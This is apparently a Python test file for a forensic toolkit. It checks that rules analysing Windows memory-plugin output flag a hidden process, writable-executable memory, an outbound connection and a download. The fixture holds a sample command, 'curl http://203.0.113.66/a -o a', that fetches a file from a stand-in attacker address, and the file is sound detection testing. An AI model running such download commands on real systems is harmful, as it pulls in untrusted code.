"""Rows of Windows plugins."""

from __future__ import annotations

from typing import Any

from forensic_toolkit.readers.processes import PSAUX, PSLIST, SPOOFING
from forensic_toolkit.rules import windows_memory_rules

START = "2026-01-02T03:04:05+00:00"


def process(pid: int, comm: str, *, args: str = "", exe: str = "N/A", ppid: int = 1) -> dict[str, list[dict[str, Any]]]:
    """Rows of one process."""
    return {
        PSLIST: [{"PID": pid, "PPID": ppid, "COMM": comm, "UID": 0, "CREATION TIME": START}],
        PSAUX: [{"PID": pid, "PPID": ppid, "COMM": comm, "ARGS": args or comm}],
        SPOOFING: [{"PID": pid, "Exe_Path": exe, "Exe_Deleted": exe.endswith("(deleted)")}],
    }


def windows_rows() -> dict[str, list[dict[str, Any]]]:
    """Rows as the pinned plugins name their columns."""
    at = "2026-11-21T02:00:00+00:00"
    process = {"PID": 700, "PPID": 4, "ImageFileName": "svchost.exe", "CreateTime": at, "ExitTime": None}
    hidden = {**process, "PID": 3344, "ImageFileName": "update.exe"}
    return {
        "windows.pslist.PsList": [process],
        "windows.psscan.PsScan": [process, hidden, {**hidden, "PID": 9, "ExitTime": at}],
        "windows.netscan.NetScan": [
            {
                "ForeignAddr": "203.0.113.66",
                "ForeignPort": 4443,
                "State": "ESTABLISHED",
                "PID": 3344,
                "Owner": "update.exe",
                "Created": at,
            },
            {
                "ForeignAddr": "10.0.0.5",
                "ForeignPort": 443,
                "State": "ESTABLISHED",
                "PID": 700,
                "Owner": "svchost.exe",
                "Created": at,
            },
        ],
        "windows.cmdline.CmdLine": [{"PID": 700, "Process": "svchost.exe", "Args": "curl http://203.0.113.66/a -o a"}],
        "windows.malware.malfind.Malfind": [
            {"PID": 700, "Process": "svchost.exe", "Protection": "PAGE_EXECUTE_READWRITE"}
        ],
    }


def test_rows_of_windows_plugins_become_findings() -> None:
    rows = windows_rows()
    found = [finding for _name, rule in windows_memory_rules.rules(rows) for finding in rule()]
    assert sorted((item.title, item.severity) for item in found) == [
        ("Connection to 203.0.113.66:4443 of update.exe", "low"),
        ("Download from a bare address: svchost.exe (700)", "high"),
        ("Memory that is writable and executable: svchost.exe (700)", "medium"),
        ("Process hidden from the process list: update.exe (3344)", "high"),
    ]
    assert [event.what for event in windows_memory_rules.events(rows)] == [
        "Process 700 started: svchost.exe (parent 4)"
    ]
    assert windows_memory_rules.events({}) == []
